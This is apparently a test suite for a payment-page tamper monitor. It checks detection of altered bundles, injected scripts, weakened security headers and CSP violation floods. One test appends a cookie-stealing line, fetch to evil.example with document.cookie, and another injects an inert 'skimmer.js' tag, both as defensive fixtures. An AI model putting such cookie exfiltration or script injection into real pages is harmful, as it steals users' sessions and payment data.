// The payment-page monitor (PCI DSS 11.6.1) against the real app over HTTPS: tampering with
// the built page (an extra script, a changed bundle, a weakened header) is detected.
import { spawn } from 'node:child_process';
import { appendFile, cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import https from 'node:https';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ensureDevCertificate } from '../dev-certs';
import { comparePage } from '../monitor/compare';
import { normaliseNonce, snapshotPage, type PageSnapshot } from '../monitor/page-snapshot';
import { DEFAULT_CSP_REPORT_QUOTA } from '../../server/src/store/csp-report-store';
import { createTestDatabase, describeEachEngine } from '../../server/test/helpers/databases';
import { FIXTURE_CLIENT_DIR, startTestApp, type TestApp } from '../../server/test/helpers/test-app';
import { REPO_ROOT, tsxNodeArgs } from '../lib/tsx-node';

let clientDir: string;
const apps: TestApp[] = [];

beforeEach(async () => {
  clientDir = await mkdtemp(path.join(tmpdir(), 'monitor-client-'));
  await cp(FIXTURE_CLIENT_DIR, clientDir, { recursive: true });
});
afterEach(async () => {
  await Promise.all(apps.splice(0).map((app) => app.close()));
  await rm(clientDir, { recursive: true, force: true });
});

async function startApp(): Promise<TestApp> {
  const app = await startTestApp({ clientDistDir: clientDir });
  apps.push(app);
  return app;
}

const snapshot = (app: TestApp) => snapshotPage(new URL('/', app.url), { ca: app.ca });

/** Each test app listens on a fresh port, so its Reporting-Endpoints URL differs between apps. */
const withoutPort = (page: PageSnapshot): PageSnapshot => ({ ...page, headers: { ...page.headers, 'reporting-endpoints': null } });

describe('payment page monitor', () => {
  it('sees no change between two fetches of an untouched page, despite fresh nonces', async () => {
    const app = await startApp();
    const baseline = await snapshot(app);
    expect(baseline.scripts.map((s) => s.url)).toEqual(['/assets/index-Bx12cd34.js']);
    expect(baseline.headers['content-security-policy']).toContain("'nonce-…'");
    expect(baseline.headers['cross-origin-embedder-policy']).toBeNull();
    expect(comparePage(baseline, await snapshot(app))).toEqual([]);
  });

  it('detects a changed bundle', async () => {
    const app = await startApp();
    const baseline = await snapshot(app);
    await appendFile(path.join(clientDir, 'assets', 'index-Bx12cd34.js'), '\nfetch("https://evil.example/?" + document.cookie);\n');
    expect(comparePage(baseline, await snapshot(app))).toEqual([
      expect.stringMatching(/^\/: script not in the baseline: \/assets\/index-Bx12cd34\.js sha384-/),
      expect.stringMatching(/^\/: baseline script no longer served: \/assets\/index-Bx12cd34\.js sha384-/),
    ]);
  });

  it('detects an extra script in the page', async () => {
    const baseline = withoutPort(await snapshot(await startApp()));
    const index = path.join(clientDir, 'index.html');
    await writeFile(path.join(clientDir, 'assets', 'skimmer.js'), 'document.forms[0]?.addEventListener("submit", () => {});');
    await writeFile(index, (await readFile(index, 'utf8')).replace('</head>', '<script nonce="__CSP_NONCE__" src="/assets/skimmer.js"></script></head>'));
    // The server reads pages at startup: a tampered build shows after a restart.
    const tampered = withoutPort(await snapshot(await startApp()));
    expect(comparePage(baseline, tampered)).toEqual([expect.stringMatching(/script not in the baseline: \/assets\/skimmer\.js sha384-/)]);
  });

  it('detects a weakened header', async () => {
    const baseline = withoutPort(await snapshot(await startApp()));
    const app = await startTestApp({ clientDistDir: clientDir, hstsPreload: true });
    apps.push(app);
    const changed = withoutPort(await snapshot(app));
    const weakened: PageSnapshot = { ...changed, headers: { ...changed.headers, 'cross-origin-embedder-policy': 'require-corp', 'content-security-policy': "default-src *" } };
    const differences = comparePage(baseline, weakened);
    expect(differences).toContain(`/: header strict-transport-security changed from "max-age=63072000; includeSubDomains" to "max-age=63072000; includeSubDomains; preload"`);
    expect(differences).toContain('/: header cross-origin-embedder-policy changed from (absent) to "require-corp"');
    expect(differences.some((line) => line.startsWith('/: header content-security-policy changed'))).toBe(true);
  });

  it('flags a tag whose integrity no longer matches what is served', () => {
    const page: PageSnapshot = { url: '/', headers: {} as PageSnapshot['headers'], scripts: [{ url: '/a.js', sha384: 'sha384-NEW', integrity: 'sha384-OLD' }] };
    expect(comparePage(page, page)).toEqual(['/: /a.js is served with sha384-NEW but its tag says integrity sha384-OLD']);
  });

  it('compares policies with the nonce blanked out', () => {
    expect(normaliseNonce("script-src 'nonce-abc+/=' 'strict-dynamic'")).toBe("script-src 'nonce-…' 'strict-dynamic'");
    expect(normaliseNonce(undefined)).toBeNull();
  });
});

/** Runs `npm run monitor` (its CLI, as one process) against `app`'s page `/`, with a baseline of its own. */
async function monitorCli(app: TestApp) {
  const baseline = path.join(clientDir, 'baseline.json');
  const caFile = path.join(clientDir, 'ca.pem');
  await writeFile(caFile, app.ca);
  return (...args: string[]) =>
    new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
      const child = spawn(process.execPath, [...tsxNodeArgs('scripts/monitor/cli.ts'), app.url, '--page', '/', '--baseline', baseline, '--ca', caFile, ...args], { cwd: REPO_ROOT });
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
      child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
      child.on('close', (code) => resolve({ code, stdout, stderr }));
    });
}

describe('npm run monitor', () => {
  it('alerts on a change: exit code 1, an error log line, and a JSON POST to --alert-url', async () => {
    const app = await startApp();
    const dev = await ensureDevCertificate();
    const alerts: unknown[] = [];
    const receiver = https.createServer({ cert: dev.cert, key: dev.key }, (req, res) => {
      let body = '';
      req.on('data', (chunk: Buffer) => (body += chunk.toString()));
      req.on('end', () => {
        alerts.push(JSON.parse(body));
        res.writeHead(204).end();
      });
    });
    await new Promise<void>((resolve) => receiver.listen(0, 'localhost', resolve));
    const receiverPort = (receiver.address() as { port: number }).port;
    const run = await monitorCli(app);
    try {
      expect((await run('--approve')).code).toBe(0);
      expect((await run()).code).toBe(0);
      await appendFile(path.join(clientDir, 'assets', 'index-Bx12cd34.js'), '\n/* changed */\n');
      const changed = await run('--alert-url', `https://localhost:${receiverPort}/alerts`);
      expect(changed.code).toBe(1);
      expect(changed.stdout).toMatch(/"level":50.*"alert":"payment-page-changed"/);
      expect(alerts).toEqual([expect.objectContaining({ alert: 'payment-page-changed', differences: expect.arrayContaining([expect.stringContaining('script not in the baseline')]) })]);
    } finally {
      await new Promise((resolve) => receiver.close(resolve));
    }
  }, 60_000);
});

describeEachEngine('npm run monitor --csp-reports', (engine) => {
  it('raises the violations browsers reported to the app, read from its DATABASE_URL', async () => {
    const database = await createTestDatabase(engine);
    const app = await startTestApp({ clientDistDir: clientDir, database });
    apps.push(app);
    const run = await monitorCli(app);
    expect((await run('--approve')).code).toBe(0);
    const quiet = await run('--csp-reports', database.url, '--since', '1h');
    expect(quiet.code, quiet.stderr).toBe(0);

    const report = { 'csp-report': { 'document-uri': `${app.url}/payment`, 'effective-directive': 'script-src-elem', 'blocked-uri': 'https://evil.example/skim.js' } };
    const posted = await app.request('/csp-reports', { method: 'POST', headers: { 'Content-Type': 'application/csp-report' }, body: JSON.stringify(report) });
    expect(posted.status).toBe(204);

    const raised = await run('--csp-reports', database.url, '--since', '1h');
    expect(raised.code, raised.stderr).toBe(1);
    expect(raised.stdout).toMatch(/"level":50.*CSP violation on https:\/\/localhost:\d+\/payment: script-src-elem blocked https:\/\/evil\.example \(1×/);
    expect(raised.stdout).not.toContain('CSP report flood');
  }, 60_000);

  it("raises both the genuine violation and the flood that tried to hide it (the review's 29 requests of 20 reports)", async () => {
    const database = await createTestDatabase(engine);
    const app = await startTestApp({ clientDistDir: clientDir, database });
    apps.push(app);
    const run = await monitorCli(app);
    expect((await run('--approve')).code).toBe(0);

    const report = { 'csp-report': { 'document-uri': `${app.url}/payment`, 'effective-directive': 'script-src-elem', 'blocked-uri': 'https://evil.example/skim.js' } };
    expect((await app.request('/csp-reports', { method: 'POST', headers: { 'Content-Type': 'application/csp-report' }, body: JSON.stringify(report) })).status).toBe(204);
    // The flood goes straight to the store (csp-reports.test.ts sends it over HTTP).
    const flood = 29 * 20;
    for (let i = 0; i < flood; i++) await app.cspReports.record({ documentUrl: `${app.url}/page-${i}`, directive: 'img-src', blockedUrl: `https://flood-${i}.example/x.gif` }, '198.51.100.9');

    const raised = await run('--csp-reports', database.url, '--since', '1h');
    expect(raised.code, raised.stderr).toBe(1);
    expect(raised.stdout).toMatch(/"level":50.*CSP violation on https:\/\/localhost:\d+\/payment: script-src-elem blocked https:\/\/evil\.example \(1×/);
    expect(raised.stdout).toContain(`CSP report flood: ${flood - DEFAULT_CSP_REPORT_QUOTA.perClient} reports not kept (over-quota ${flood - DEFAULT_CSP_REPORT_QUOTA.perClient})`);
  }, 60_000);
});
